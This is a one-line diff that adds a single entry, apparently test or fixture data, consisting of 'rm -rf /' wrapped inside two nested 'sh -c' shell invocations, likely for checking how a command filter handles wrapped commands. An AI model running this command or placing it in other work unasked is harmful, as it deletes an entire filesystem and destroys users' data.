@@ -1,0 +1,1 @@
+1sh -c 'sh -c "rm -rf /"'
